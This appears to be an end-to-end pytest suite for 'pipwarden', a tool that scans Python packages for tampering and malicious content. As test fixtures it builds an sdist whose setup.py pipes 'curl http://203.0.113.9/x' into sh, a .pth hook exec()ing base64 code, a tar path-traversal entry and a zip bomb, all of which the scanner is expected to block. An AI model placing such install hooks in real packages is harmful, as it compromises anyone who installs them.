"""pipwarden scan end to end, through the installed CLI, against a local index on 127.0.0.1."""

from __future__ import annotations

import io
import json
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path
from typing import Any

import pytest

from tests.builders import make_sdist, make_wheel, sha256_of
from tests.indexserver import LocalIndex

REPORT_KEYS = {"schema", "tool", "packages", "summary"}
PACKAGE_KEYS = {"name", "version", "source", "verdict", "artifacts", "findings", "error"}
FINDING_KEYS = {"id", "severity", "title", "message", "artifact", "file", "line", "evidence"}


def pipwarden(*args: str, timeout: float = 120) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "pipwarden", *args], capture_output=True, text=True,
                          timeout=timeout, check=False)


def scan_json(*args: str) -> tuple[int, dict[str, Any]]:
    proc = pipwarden("scan", "--format", "json", *args)
    assert proc.stdout, proc.stderr
    return proc.returncode, json.loads(proc.stdout)


def assert_shape(report: dict[str, Any]) -> None:
    assert set(report) - {"meta", "skipped"} == REPORT_KEYS
    assert report["schema"] == "pipwarden.report/1"
    assert report["tool"]["name"] == "pipwarden"
    assert set(report["summary"]) == {"pass", "warn", "block", "error"}
    for p in report["packages"]:
        assert set(p) >= PACKAGE_KEYS
        assert p["source"] in ("index", "file") and p["verdict"] in ("pass", "warn", "block", "error")
        for a in p["artifacts"]:
            assert {"filename", "sha256", "size"} <= set(a)
        for f in p["findings"]:
            assert set(f) == FINDING_KEYS


BENIGN = {"good/__init__.py": "def hello():\n    return 'hi'\n"}
EVIL_SETUP = (
    "import os, socket\nfrom setuptools import setup\n"
    "os.system('curl http://203.0.113.9/x | sh')\n"
    "setup(name='evil', version='1.0')\n"
)


@pytest.fixture
def index(local_index: LocalIndex, tmp_path: Path) -> LocalIndex:
    d = tmp_path / "dist"
    d.mkdir()
    local_index.add(make_wheel(d, "good", "1.0", BENIGN))
    local_index.add(make_wheel(d, "good", "1.1", BENIGN))
    local_index.add(make_sdist(d, "good", "1.1", BENIGN))
    local_index.add(make_wheel(d, "good", "2.0", BENIGN), yanked="broken release")
    local_index.add(make_sdist(d, "evil", "1.0", setup_py=EVIL_SETUP))
    local_index.add(make_wheel(d, "tampered", "1.0", BENIGN), bad_digest=True)
    return local_index


def test_scan_name_picks_newest_not_yanked(index: LocalIndex) -> None:
    code, report = scan_json("good", "--index-url", index.url)
    assert code == 0, report
    assert_shape(report)
    [pkg] = report["packages"]
    assert (pkg["name"], pkg["version"], pkg["source"], pkg["verdict"]) == ("good", "1.1", "index", "pass")
    # the best file for this interpreter is the wheel, not the sdist
    assert [a["filename"] for a in pkg["artifacts"]] == ["good-1.1-py3-none-any.whl"]
    assert report["summary"] == {"pass": 1, "warn": 0, "block": 0, "error": 0}


def test_scan_specifier_and_pin(index: LocalIndex) -> None:
    _code, report = scan_json("good<1.1", "--index-url", index.url)
    assert report["packages"][0]["version"] == "1.0"
    # an exact pin reaches even a yanked release, as pip does
    _code, report = scan_json("good==2.0", "--index-url", index.url)
    assert report["packages"][0]["version"] == "2.0"


def test_scan_all_artifacts(index: LocalIndex) -> None:
    _code, report = scan_json("good==1.1", "--artifacts", "all", "--index-url", index.url)
    names = sorted(a["filename"] for a in report["packages"][0]["artifacts"])
    assert names == ["good-1.1-py3-none-any.whl", "good-1.1.tar.gz"]


def test_malicious_sdist_blocks(index: LocalIndex) -> None:
    code, report = scan_json("evil", "--index-url", index.url)
    assert code == 1
    pkg = report["packages"][0]
    assert pkg["verdict"] == "block"
    spawn = [f for f in pkg["findings"] if f["id"] == "PW101"]
    assert spawn and spawn[0]["file"] == "evil-1.0/setup.py" and spawn[0]["line"] == 3
    assert "curl" in spawn[0]["evidence"]


def test_digest_mismatch_blocks(index: LocalIndex) -> None:
    code, report = scan_json("tampered", "--index-url", index.url)
    assert code == 1
    integrity = [f["id"] for f in report["packages"][0]["findings"] if f["id"].startswith("PW0")]
    assert integrity == ["PW001"]


def test_fail_on_threshold(tmp_path: Path) -> None:
    # an sdist-only release is a low-severity trust finding (PW250): it passes by default,
    # warns with --warn-on low and blocks with --fail-on low
    sdist = make_sdist(tmp_path, "good", "1.0", BENIGN)
    code, report = scan_json(str(sdist), "--offline")
    pkg = report["packages"][0]
    assert code == 0 and pkg["verdict"] == "pass" and {f["severity"] for f in pkg["findings"]} <= {"low", "info"}
    assert any(f["severity"] == "low" for f in pkg["findings"])
    code, report = scan_json(str(sdist), "--offline", "--warn-on", "low")
    assert code == 0 and report["packages"][0]["verdict"] == "warn"
    code, report = scan_json(str(sdist), "--offline", "--fail-on", "low")
    assert code == 1 and report["packages"][0]["verdict"] == "block"


def test_unknown_package_is_one_line_error(index: LocalIndex) -> None:
    proc = pipwarden("scan", "no-such-thing", "--index-url", index.url)
    assert proc.returncode == 2
    assert "no-such-thing" in proc.stderr and "Traceback" not in proc.stderr


def test_malformed_specifier(index: LocalIndex) -> None:
    proc = pipwarden("scan", "good>=>1", "--index-url", index.url)
    assert proc.returncode == 2
    assert proc.stderr.count("\n") == 1 and "not a package name" in proc.stderr


def test_slow_index_times_out_cleanly(index: LocalIndex) -> None:
    index.slow["/simple/good/"] = 3.0
    proc = pipwarden("scan", "good", "--timeout", "0.5", "--index-url", index.url)
    assert proc.returncode == 2
    assert "Traceback" not in proc.stderr and "good" in proc.stderr


def test_plain_http_remote_index_refused() -> None:
    proc = pipwarden("scan", "good", "--index-url", "http://packages.example.invalid/simple/")
    assert proc.returncode == 2 and "http" in proc.stderr and "Traceback" not in proc.stderr


def test_relative_urls_and_html_only_index(tmp_path: Path) -> None:
    with LocalIndex(relative_urls=True, simple_json=False, json_api=False) as idx:
        idx.add(make_wheel(tmp_path, "good", "1.0", BENIGN))
        code, report = scan_json("good", "--index-url", idx.url)
        assert code == 0 and report["packages"][0]["verdict"] == "pass"
        assert any(p.startswith("/packages/") for p in idx.paths())


def test_core_metadata_mismatch(local_index: LocalIndex, tmp_path: Path) -> None:
    whl = make_wheel(tmp_path, "meta", "1.0", BENIGN)
    local_index.add(whl, metadata=b"Metadata-Version: 2.1\nName: meta\nVersion: 1.0\nRequires-Dist: evil\n")
    code, report = scan_json("meta", "--index-url", local_index.url)
    ids = {f["id"] for f in report["packages"][0]["findings"]}
    assert "PW006" in ids and code == 1


def test_offline_local_file(tmp_path: Path) -> None:
    whl = make_wheel(tmp_path, "good", "1.0", BENIGN)
    code, report = scan_json(str(whl), "--offline")
    assert code == 0
    assert_shape(report)
    [pkg] = report["packages"]
    assert pkg["source"] == "file" and pkg["artifacts"][0]["sha256"] == sha256_of(whl)


def test_offline_name_is_an_error() -> None:
    proc = pipwarden("scan", "requests", "--offline")
    assert proc.returncode == 2 and "--offline" in proc.stderr


def test_directory_of_artifacts(tmp_path: Path) -> None:
    make_wheel(tmp_path, "good", "1.0", BENIGN)
    make_sdist(tmp_path, "good", "1.0", BENIGN)
    make_sdist(tmp_path, "evil", "1.0", setup_py=EVIL_SETUP)
    code, report = scan_json(str(tmp_path), "--offline")
    assert code == 1
    verdicts = {(p["name"], p["version"]): p["verdict"] for p in report["packages"]}
    assert verdicts == {("good", "1.0"): "pass", ("evil", "1.0"): "block"}
    good = next(p for p in report["packages"] if p["name"] == "good")
    assert len(good["artifacts"]) == 2


def test_truncated_file_is_clear_error(tmp_path: Path) -> None:
    sdist = make_sdist(tmp_path, "good", "1.0", {"good/x.py": "x = 1\n" * 4000})
    sdist.write_bytes(sdist.read_bytes()[:200])
    proc = pipwarden("scan", str(sdist), "--offline")
    assert proc.returncode == 2
    assert "truncated or corrupt" in proc.stderr and "Traceback" not in proc.stderr


def test_zip_bomb_blocks(tmp_path: Path) -> None:
    bomb = tmp_path / "bomb-1.0-py3-none-any.whl"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf, zf.open("bomb/z.bin", "w") as fh:
        for _ in range(40):
            fh.write(bytes(1 << 20))
    code, report = scan_json(str(bomb), "--offline")
    ids = {f["id"] for f in report["packages"][0]["findings"]}
    # 40 MiB of zeros inflates ~1000x, past the default 250x limit once 16 MiB are out
    assert "PW013" in ids and code == 1


def test_tar_traversal_blocks(tmp_path: Path) -> None:
    path = tmp_path / "slip-1.0.tar.gz"
    with tarfile.open(path, "w:gz") as tf:
        for name in ("slip-1.0/PKG-INFO", "slip-1.0/../../.bashrc"):
            data = b"Metadata-Version: 2.1\nName: slip\nVersion: 1.0\n" if name.endswith("INFO") else b"evil\n"
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            tf.addfile(ti, io.BytesIO(data))
    code, report = scan_json(str(path), "--offline")
    findings = report["packages"][0]["findings"]
    assert code == 1 and any(f["id"] == "PW010" and f["file"] == "slip-1.0/../../.bashrc" for f in findings)


def test_record_tampering_found(tmp_path: Path) -> None:
    whl = make_wheel(tmp_path, "rec", "1.0", {"rec/__init__.py": "A = 1\n"})
    # re-write one member after RECORD was computed, and add an unlisted one
    out = tmp_path / "out" / whl.name
    out.parent.mkdir()
    with zipfile.ZipFile(whl) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            dst.writestr(info.filename, b"A = 2\n" if info.filename == "rec/__init__.py" else data)
        dst.writestr("rec/extra.py", "B = 1\n")
    code, report = scan_json(str(out), "--offline")
    ids = sorted(f["id"] for f in report["packages"][0]["findings"] if f["id"].startswith("PW0"))
    assert ids == ["PW002", "PW003"] and code == 1


def test_pth_hook_blocks(tmp_path: Path) -> None:
    whl = make_wheel(tmp_path, "hook", "1.0", {
        "hook/__init__.py": "",
        "hook.pth": "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n",
    })
    code, report = scan_json(str(whl), "--offline")
    assert code == 1
    assert any(f["id"] == "PW104" and f["severity"] == "high" for f in report["packages"][0]["findings"])


def test_table_output_and_rules() -> None:
    proc = pipwarden("rules")
    assert proc.returncode == 0 and "PW001" in proc.stdout and "PW101" in proc.stdout
    proc = pipwarden("rules", "PW010")
    assert "zip-slip" in proc.stdout


def test_table_report(tmp_path: Path) -> None:
    make_sdist(tmp_path, "evil", "1.0", setup_py=EVIL_SETUP)
    proc = pipwarden("scan", str(tmp_path), "--offline")
    assert proc.returncode == 1
    assert "BLOCK" in proc.stdout and "PW101" in proc.stdout and "evil-1.0/setup.py:3" in proc.stdout


def test_version_and_help() -> None:
    assert pipwarden("--version").stdout.startswith("pipwarden ")
    proc = pipwarden("scan", "--help")
    assert proc.returncode == 0 and "--artifacts" in proc.stdout
    proc = pipwarden("scan", "--format", "xml", "x")
    assert proc.returncode == 2 and "Traceback" not in proc.stderr


def test_defective_check_is_a_reported_error(tmp_path: Path) -> None:
    """A check that crashes turns its package into an error naming the check: no traceback."""
    code = (
        "import runpy, sys\n"
        "from pipwarden.checks import base\n"
        "from pipwarden.checks.integrity import PathTraversal\n"
        "def boom(self, ctx):\n"
        "    raise KeyError('defect')\n"
        "PathTraversal.run = boom\n"
        "sys.argv = ['pipwarden'] + sys.argv[1:]\n"
        "from pipwarden.cli import main\n"
        "raise SystemExit(main())\n"
    )
    whl = make_wheel(tmp_path, "good", "1.0", BENIGN)
    proc = subprocess.run([sys.executable, "-c", code, "scan", str(whl), "--offline", "-f", "json"],
                          capture_output=True, text=True, check=False)
    assert proc.returncode == 2
    assert "Traceback" not in proc.stderr
    pkg = json.loads(proc.stdout)["packages"][0]
    assert pkg["verdict"] == "error" and "internal error in check PW010" in pkg["error"]
